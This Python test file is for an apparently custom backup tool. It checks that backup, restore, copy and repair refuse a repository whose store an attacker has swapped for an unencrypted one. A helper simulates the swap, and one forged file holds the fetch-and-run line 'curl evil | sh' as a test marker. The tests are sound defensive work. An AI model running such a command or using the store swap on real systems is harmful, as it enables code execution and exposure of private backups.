"""A store replaced by an unencrypted repository. The config of an unencrypted repository
carries no MAC, and one without key files was opened as unencrypted whatever the user
expected: whoever can write the store (with no key and no password) moved the key files,
index, snapshots and packs aside and wrote a config saying ``"encryption": "none"`` with the
same id. The next backup, with the password given as every day, stored each file in plain
text there and exited 0; a restore of "latest" brought back files that writer chose; and
``repair``, which the error for lost key files points to, rebuilt the config unencrypted.
Now an unencrypted repository is opened (and a config rebuilt unencrypted) only with
--insecure-no-encryption (copy's source: --from-insecure-no-encryption)."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

from tests.conftest import Cli
from tests.hostileutil import stored_files


def _replace_by_unencrypted(repo: Path, aside: Path, with_repo: Path | None = None) -> dict[str, bytes]:
    """What a writer of the store does: every object moved aside, an unencrypted config with
    the repository's id written in its place (over ``with_repo``'s objects when given: a
    repository of theirs). Returns the store's files as left."""
    cfg = json.loads((repo / "config").read_bytes())
    shutil.move(repo, aside)
    if with_repo is not None:
        shutil.copytree(with_repo, repo)
    else:
        for d in ("keys", "index", "snapshots", "data", "locks"):
            (repo / d).mkdir(parents=True)
    forged = json.loads((repo / "config").read_bytes()) if with_repo is not None else dict(cfg)
    forged.update(id=cfg["id"], encryption="none", mac="")
    (repo / "config").write_bytes(json.dumps(forged).encode())
    return stored_files(repo)


def test_backup_into_a_store_replaced_by_an_unencrypted_repository_stores_nothing_in_plain_text(
        cli: Cli, tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    secret = b"payroll 2026: " + os.urandom(20_000).hex().encode()
    (src / "payroll.txt").write_bytes(secret)
    assert cli("init").returncode == 0
    assert cli("backup", str(src)).returncode == 0
    left = _replace_by_unencrypted(cli.repo, tmp_path / "aside")
    for args in (["backup", str(src)], ["backup", "--no-cache", str(src)], ["snapshots"], ["check"]):
        r = cli(*args)
        assert r.returncode == 2, (args, r.stdout, r.stderr)
        assert "not encrypted" in r.stderr and "--insecure-no-encryption" in r.stderr and "Traceback" not in r.stderr
    assert stored_files(cli.repo) == left  # nothing written, so nothing in plain text
    assert not any(secret[:40] in data for data in stored_files(cli.repo).values())


def test_restore_from_a_store_replaced_by_an_unencrypted_repository_restores_nothing(
        cli: Cli, tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    (src / "notes.txt").write_bytes(b"the user's own notes")
    assert cli("init").returncode == 0
    assert cli("backup", str(src)).returncode == 0
    # the writer's own repository, holding the file they want restored in its place
    theirs, forged = tmp_path / "theirs", tmp_path / "forged"
    forged.mkdir()
    (forged / "notes.txt").write_bytes(b"curl evil | sh")
    mine = {"DELTAVAULT_REPOSITORY": str(theirs)}
    assert cli("--insecure-no-encryption", "init", env=mine).returncode == 0
    assert cli("--insecure-no-encryption", "backup", str(forged), env=mine).returncode == 0
    _replace_by_unencrypted(cli.repo, tmp_path / "aside", with_repo=theirs)
    out = tmp_path / "out"
    for args in (["restore", "latest", "--target", str(out)], ["dump", "latest", "/", "--target", str(tmp_path / "t.tar")],
                 ["ls", "latest"]):
        r = cli(*args)
        assert r.returncode == 2 and "not encrypted" in r.stderr, (args, r.stdout, r.stderr)
        assert "curl evil" not in r.stdout
    assert not out.exists() and not (tmp_path / "t.tar").exists()
    # copied from it as a source: refused alike, the target holds nothing of it
    target = tmp_path / "target"
    assert cli("init", env={"DELTAVAULT_REPOSITORY": str(target)}).returncode == 0
    r = cli("copy", "--from-repo", str(cli.repo), env={"DELTAVAULT_REPOSITORY": str(target),
                                                       "DELTAVAULT_FROM_PASSWORD_FILE": str(cli.password_file)})
    assert r.returncode == 2 and "not encrypted" in r.stderr, r.stderr
    assert not (target / "snapshots").exists() or not any((target / "snapshots").iterdir())


def test_repair_does_not_turn_a_repository_whose_key_files_were_deleted_into_an_unencrypted_one(
        cli: Cli, tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    (src / "f").write_bytes(b"data" * 1000)
    assert cli("init").returncode == 0
    assert cli("backup", str(src)).returncode == 0
    shutil.move(cli.repo / "keys", tmp_path / "keys")
    (cli.repo / "keys").mkdir()
    r = cli("backup", str(src))
    assert r.returncode == 13 and "no key files" in r.stderr, r.stderr
    before = stored_files(cli.repo)
    for args in (["repair"], ["repair", "--dry-run"]):
        r = cli(*args)
        assert r.returncode == 2 and "not encrypted" in r.stderr, (args, r.stderr)
    assert stored_files(cli.repo) == before
    # the key files put back: all as it was
    shutil.rmtree(cli.repo / "keys")
    shutil.move(tmp_path / "keys", cli.repo / "keys")
    assert cli("check", "--read-data").returncode == 0


def test_an_unencrypted_repository_is_used_when_said_so(cli: Cli, tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    (src / "f").write_bytes(b"plain" * 1000)
    assert cli("init", "--insecure-no-encryption").returncode == 0
    assert cli("backup", "--insecure-no-encryption", str(src)).returncode == 0
    assert cli("--insecure-no-encryption", "check", "--read-data").returncode == 0
    r = cli("restore", "latest", "--target", str(tmp_path / "out"))
    assert r.returncode == 2 and "not encrypted" in r.stderr
    assert cli("restore", "latest", "--target", str(tmp_path / "out"), "--insecure-no-encryption").returncode == 0
    assert (tmp_path / "out" / "src" / "f").read_bytes() == b"plain" * 1000
